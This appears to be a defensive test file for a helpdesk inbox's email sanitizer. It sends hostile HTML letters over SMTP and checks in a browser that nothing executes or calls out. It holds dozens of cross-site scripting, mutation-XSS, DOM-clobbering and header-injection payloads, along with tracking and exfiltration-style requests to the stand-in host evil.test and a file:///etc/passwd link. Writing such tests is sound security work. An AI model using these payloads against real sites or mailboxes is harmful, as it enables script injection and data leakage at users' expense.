// Hostile letters, sent through the SMTP door and opened as people open them: "Original formatting" in the inbox, and the portal's
// page. Whatever a letter holds, no script runs, nothing is asked for, nothing moves, nothing opens (threats X-01 to X-08, X-11).

import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { newPage, signIn, startBrowser, startDemo } from './demo.mjs';

/** @type {Awaited<ReturnType<typeof startDemo>>} */ let demo;
/** @type {import('playwright-core').Browser} */ let browser;
/** @type {string} */ let token;
/** @type {string} */ let item;

before(async () => {
  demo = await startDemo();
  browser = await startBrowser();
  token = (await api('POST', '/api/collections/users/auth-with-password', { identity: 'ada@acme.test', password: demo.password })).token;
  item = (await api('GET', '/api/collections/feedback/records?filter=message~"blue widget"')).items[0].id;
});
after(async () => {
  await browser?.close();
  await demo?.stop();
});

/** @param {string} method @param {string} path @param {any} [body] @returns {Promise<any>} */
async function api(method, path, body) {
  const res = await fetch(demo.inbox + path, { method, headers: { 'Content-Type': 'application/json', ...(token && { Authorization: token }) }, body: body && JSON.stringify(body) });
  const answer = await res.json();
  assert.ok(res.ok, `${method} ${path}: ${res.status} ${JSON.stringify(answer)}`);
  return answer;
}

/** Starts a side conversation and finds where its people's answers go. @param {string} subject @param {string[]} to */
async function conversation(subject, to) {
  const c = await api('POST', '/api/side-conversations', { feedback: item, to, subject, message: 'Please look at this.' });
  const page = new URL((await api('GET', `/api/side-conversations/${c.id}/url`)).url).pathname;
  const replyTo = await Promise.all(to.map(async (address) => {
    for (let i = 0; i < 100; i++) {
      const list = await (await fetch(`${demo.mail}/?box=${encodeURIComponent(address)}`)).text();
      for (const [, id] of list.matchAll(/href="\/letters\/(\w+)/g)) {
        const source = await (await fetch(`${demo.mail}/letters/${id}/source`)).text();
        const found = /reply\+[a-z2-7]+@[\w.]+/.exec(source.replace(/=\r?\n/g, ''));
        if (found && source.includes(address)) return found[0];
      }
      await new Promise((done) => setTimeout(done, 100));
    }
    throw new Error(`no letter for ${address} was caught`);
  }));
  return { id: c.id, page, subject, replyTo };
}

/** One SMTP session from where the demo's domains send, so that the letter is verified. @param {string} from @param {string} to @param {string} letter */
function send(from, to, letter) {
  const [host, port] = demo.door.split(':');
  const lines = ['EHLO mail.vendor.test', `MAIL FROM:<${from}>`, `RCPT TO:<${to}>`, 'DATA', `${letter.replace(/\r?\n/g, '\r\n').replace(/^\./gm, '..')}\r\n.`, 'QUIT'];
  return new Promise((resolve, reject) => {
    const s = connect({ host, port: Number(port), localAddress: '127.0.0.10' });
    s.setEncoding('utf8');
    s.on('error', reject);
    s.on('data', (said) => {
      if (/^\d{3}-/m.test(said) && !/^\d{3} /m.test(said)) return;
      if (/^[45]/.test(said)) reject(new Error(`the door said ${said}`));
      const next = lines.shift();
      if (next === undefined) resolve(s.end());
      else s.write(`${next}\r\n`);
    });
  });
}

let n = 0;
/** @param {string} from @param {string} to @param {string} html */
const letter = (from, to, html) => `From: ${from}\nTo: ${to}\nSubject: Re: hostile ${n}\nDate: Tue, 24 Nov 2026 10:00:00 +0000\nMessage-ID: <${n++}@vendor.test>\nMIME-Version: 1.0\n`
  + `Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n${Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\n')}\n`;

/** What a hostile page could do that a reader would not have done. @param {Awaited<ReturnType<typeof newPage>>} opened */
function watched({ page, faults }) {
  page.on('dialog', (d) => { faults.push(`dialog: ${d.message()}`); d.dismiss(); });
  page.context().on('page', (p) => p !== page && faults.push(`a window: ${p.url()}`));
  page.context().on('request', (r) => {
    const u = new URL(r.url());
    const ours = u.origin === demo.inbox && /^\/($|api\/|app\/|js\/|css\/|lib\/|img\/|c\/|icon\.svg|favicon|manifest)/.test(u.pathname);
    if (!ours) faults.push(`asked for ${r.method()} ${r.url().slice(0, 200)}`);
  });
  page.on('download', (d) => faults.push(`download: ${d.url()}`));
}

/** Opens every letter of a conversation in the inbox, then its page, and looks at both. @param {Awaited<ReturnType<typeof conversation>>} c @param {number} letters */
async function read(c, letters) {
  const ada = await newPage(browser);
  watched(ada);
  const { page } = ada;
  await signIn(page, demo);
  await page.goto(`${demo.inbox}/app/acme/inbox/${item}`).catch(() => {});
  await page.getByText('The blue widget arrived cracked').first().click();
  const thread = page.locator('.rail.outside').filter({ hasText: c.subject });
  await thread.waitFor();
  const buttons = thread.getByRole('button', { name: 'Original formatting' });
  if (!(await buttons.count())) await thread.getByText(c.subject).first().click();
  const unfold = thread.getByRole('button', { name: /earlier|Show all|more/i });
  for (let i = 0; i < 3 && (await buttons.count()) < letters && (await unfold.count()); i++) await unfold.first().click();
  await buttons.first().waitFor();
  const home = page.url();
  for (let left = await buttons.count(); left > 0; left = await buttons.count()) {
    assert.ok(left <= letters);
    await buttons.first().click();
    const frame = thread.frameLocator('iframe.original').last();
    await frame.locator('body').waitFor();
  }
  const frames = thread.locator('iframe.original');
  assert.equal(await frames.count(), letters, 'letters that are shown in a frame');
  for (let i = 0; i < letters; i++) {
    const inside = thread.frameLocator('iframe.original').nth(i);
    await inside.getByText('The words stay.').last().waitFor();
    assert.deepEqual(await suspects(inside.locator('body')), [], `in the frame of letter ${i}`);
  }
  await page.mouse.move(900, 500);
  await page.mouse.wheel(0, 500);
  await page.waitForTimeout(1500);
  assert.equal(page.url(), home, 'the inbox went elsewhere');
  assert.ok(page.frames().every((f) => f === page.mainFrame() || f.url() === 'about:blank' || /\/api\/side-messages\/\w+\/body\?/.test(f.url())), 'a frame went elsewhere');

  const portal = await newPage(browser);
  watched(portal);
  await portal.page.goto(demo.inbox + c.page);
  assert.ok(await portal.page.getByText('The words stay.').count() >= letters);
  assert.deepEqual(await suspects(portal.page.locator('.history')), [], 'on the portal');
  assert.equal(await portal.page.evaluate(() => Object.keys(window).filter((k) => /^(__hit|pwned|clobbered)/.test(k)).join()), '');
  await portal.page.waitForTimeout(1000);
  assert.ok(portal.page.url().endsWith(c.page), 'the portal went elsewhere');
  // Looking into a frame that runs no scripts is itself reported, once: an honest letter gives the same line.
  assert.deepEqual([...ada.faults, ...portal.faults].filter((f) => !/^console: Blocked script execution in '[^']*\/body\?/.test(f)), []);
  await Promise.all([ada.close(), portal.close()]);
}

/** Elements and attributes that may not be there, and links that lead to what is not an address. @param {import('playwright-core').Locator} root */
const suspects = (root) => root.evaluate((el) => [...el.querySelectorAll('*')].flatMap((e) => [
  ...(/^(script|style|iframe|object|embed|form|input|button|svg|math|base|meta|link|dialog|video|audio|source|picture|template|marquee)$/i.test(e.localName) ? [e.outerHTML.slice(0, 120)] : []),
  ...[...e.attributes].filter((a) => /^on|^(style|srcset|background|poster|ping|formaction|srcdoc)$/i.test(a.name) || (/^(name|id)$/.test(a.name) && !/^m\d+$/.test(a.value))).map((a) => `${e.localName} ${a.name}=${a.value.slice(0, 80)}`),
  ...(e.localName === 'a' && !/^(https?:|mailto:)/.test(/** @type {HTMLAnchorElement} */ (e).href) ? [`a ${e.getAttribute('href')}`] : []),
  ...(e.localName === 'img' && !/^\/(api\/files|c)\//.test(e.getAttribute('src') ?? '') ? [`img ${e.getAttribute('src')}`] : []),
]));

/** Our own wording of each row. @type {Record<string, string[]>} */
const ROWS = {
  'X-01 scripts': ['<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '<body onload=alert(3)>', '<a href="#" onmouseover="alert(4)" onfocus=alert(4) autofocus tabindex=1>hover</a>', '<div onpointerenter=alert(5)>x</div>', '<scr<script>ipt>alert(6)</scr</script>ipt>'],
  'X-02 mutation': ['<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=q onerror=alert(1)&gt;">', '<svg><desc><style><a title="</style><img src=q onerror=alert(2)>">', '<noscript><a title="</noscript><img src=q onerror=alert(3)>">',
    '<xmp><p title="</xmp><img src=q onerror=alert(4)>">', '<select><template><style></select><img src=q onerror=alert(5)>', '<noembed><i title="</noembed><img src=q onerror=alert(6)>">', '<table><td><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(7)>'],
  'X-03 addresses': ['<a href="javascript:alert(1)">a</a>', '<a href="jAva&#09;script&colon;alert(2)">b</a>', '<a href="data:text/html,<script>alert(3)</script>">c</a>', '<a href="//evil.test/">d</a>', '<a href="/_/">e</a>', '<a href="\\\\evil.test">f</a>',
    '<a href="vbscript:x">g</a>', '<a href="file:///etc/passwd">h</a>', '<a href="https://acme.test@evil.test/">acme.test</a>', '<a href="http:evil.test">i</a>', '<a href="https://\u202Eevil.test/">j</a>'],
  'X-04 remote pictures': ['<img src="https://evil.test/1.gif">', '<img srcset="https://evil.test/2.gif 2x">', '<picture><source srcset=https://evil.test/3.gif><img></picture>', '<video poster=https://evil.test/4.gif src=https://evil.test/4.mp4 autoplay>', '<table background=https://evil.test/5.gif><td>x',
    '<link rel=prefetch href=https://evil.test/6>', '<link rel=stylesheet href=https://evil.test/7.css>', '<div style="background:url(https://evil.test/8.gif)">x</div>', '<style>@import "https://evil.test/9.css"; @font-face{font-family:x;src:url(https://evil.test/10)} *{font-family:x}</style>',
    '<blockquote cite=https://evil.test/11>x</blockquote>', '<input type=image src=https://evil.test/12.gif>', '<div style="background:u\\72l(https://evil.test/13">x</div>', '<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>'],
  'X-05 styles': ['<style>input[value^=a]{background:url(https://evil.test/a)} body{display:none}</style>', '<div style="position:fixed;inset:0;z-index:9;opacity:0"><a href="https://evil.test">everywhere</a></div>', '<p style="margin:-9999px;content:\'x\'">far</p>'],
  'X-06 forms and frames': ['<form action=https://evil.test><input name=p><button formaction=https://evil.test/2>go</button></form>', '<meta http-equiv=refresh content="0;url=https://evil.test/">', '<base href=https://evil.test/>', '<iframe src=https://evil.test srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data=https://evil.test/x></object><embed src=https://evil.test/y>', '<dialog open>x</dialog>', '<marquee onstart=alert(2)>x</marquee>', '<details open ontoggle=alert(3)>x</details>'],
  'X-07 names': ['<a id=app name=fetch>x</a>', '<form name=document><input name=cookie></form>', '<img name=getElementById>', '<a id=clobbered href="tel:1">x</a>', '<section id=answer>x</section>'],
  'X-08 drawings': ['<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>click</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(2)>#x"></use></svg>', '<svg onload=alert(3)>', '<math href="javascript:alert(4)">CLICK</math>', '<svg><image href=https://evil.test/s.png /></svg>', '<svg><set attributeName=onmouseover to=alert(5)>'],
};

test('X-01 to X-08: our own hostile letters do nothing in the inbox and on the portal', async () => {
  const c = await conversation('Hostile letters of our own', ['bob@vendor.test']);
  for (const [row, payloads] of Object.entries(ROWS)) await send('bob@vendor.test', c.replyTo[0], letter('bob@vendor.test', c.replyTo[0], `<p>${row}</p>${payloads.map((p) => `<div>${p}</div>`).join('\n')}${RESYNC}<p>The words stay.</p>`));
  await read(c, Object.keys(ROWS).length);
});

/** Ends whatever a payload left open, so that the next one is read as markup. */
const RESYNC = `-->'">]]></script></style></title></textarea></xmp></noscript></iframe></noembed></noframes></select></template></svg></math></table>`;
const CORPORA = join(process.env.ASIDE_CORPORA ?? '../shared/corpora', 'sanitize');
const PER_LETTER = 100;

test('X-01: every payload of the corpora does nothing in the inbox and on the portal', { skip: !existsSync(CORPORA) && `${CORPORA} is not there`, timeout: 60_000 }, async () => {
  const all = readdirSync(CORPORA).map((d) => join(CORPORA, d, 'cases.json')).filter(existsSync).flatMap((f) => JSON.parse(readFileSync(f, 'utf8')).map((/** @type {{html: string}} */ p) => p.html)).filter((h) => !/<plaintext/i.test(h));
  const people = [...Array(Math.ceil(all.length / PER_LETTER / 10)).keys()].map((i) => `p${i}@vendor.test`);
  const c = await conversation('Hostile letters of others', people);
  let letters = 0;
  for (let i = 0; i < all.length; i += PER_LETTER, letters++) {
    const from = people[Math.floor(letters / 10)]; // ten letters of one person are taken at once
    await send(from, c.replyTo[Math.floor(letters / 10)], letter(from, c.replyTo[Math.floor(letters / 10)], `${all.slice(i, i + PER_LETTER).map((h) => `<div>${h}${RESYNC}</div>`).join('\n')}<p>The words stay.</p>`));
  }
  await read(c, letters);
});

test('X-11: hostile names of files, people and types are words in the inbox and in the dashboard', async () => {
  const evil = '"><img src=x onerror=alert(1)><script>alert(2)</script>';
  const c = await conversation(`Metadata ${evil}`, ['mallory@vendor.test']);
  await send('mallory@vendor.test', c.replyTo[0], `From: "${evil.replace(/["\\]/g, '\\$&')}" <mallory@vendor.test>\nTo: ${c.replyTo[0]}\nSubject: ${evil}\nDate: Tue, 24 Nov 2026 10:00:00 +0000\nMessage-ID: <${n++}@vendor.test>\nMIME-Version: 1.0\n`
    + `Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset="\\"><script>alert(3)</script>"\n\nThe words stay. ${evil}\n--b\nContent-Type: text/"><script>alert(4)</script>\nContent-Disposition: attachment; filename="${evil.replace(/["\\]/g, '\\$&')}.txt"\n\nx\n--b--\n`);
  const ada = await newPage(browser);
  watched(ada);
  await signIn(ada.page, demo);
  await ada.page.getByText('The blue widget arrived cracked').first().click();
  const thread = ada.page.locator('.rail.outside').filter({ hasText: 'Metadata' });
  await thread.waitFor();
  if (!(await thread.getByText('The words stay.').count())) await thread.getByText('Metadata').first().click();
  await thread.getByText('The words stay.').first().waitFor();
  assert.equal(await thread.locator('img[src=x], script').count(), 0);
  const portal = await newPage(browser);
  watched(portal);
  await portal.page.goto(demo.inbox + c.page);
  await portal.page.getByText('The words stay.').first().waitFor();
  assert.equal(await portal.page.locator('img[src=x]').count(), 0);

  const operator = await newPage(browser);
  operator.page.on('dialog', (d) => { operator.faults.push(`dialog: ${d.message()}`); d.dismiss(); });
  await operator.page.goto(`${demo.inbox}/_/`);
  await operator.page.locator('input[type=email]').fill('operator@acme.test');
  await operator.page.locator('input[type=password]').fill(demo.password);
  await operator.page.getByRole('button', { name: 'Login' }).click();
  await operator.page.locator('input[type=password]').waitFor({ state: 'detached' });
  for (const collection of ['side_messages', 'side_conversations', 'activity']) {
    await operator.page.getByText(collection, { exact: true }).first().click();
    await operator.page.getByText(/onerror=alert|Metadata/).first().waitFor({ timeout: 8000 });
    await operator.page.waitForTimeout(300);
    assert.equal(await operator.page.locator('img[src=x]').count(), 0, `in the dashboard’s ${collection}`);
  }
  assert.deepEqual([...ada.faults, ...portal.faults, ...operator.faults.filter((f) => f.startsWith('dialog') || f.startsWith('left'))], []);
  await Promise.all([ada.close(), portal.close(), operator.close()]);
});
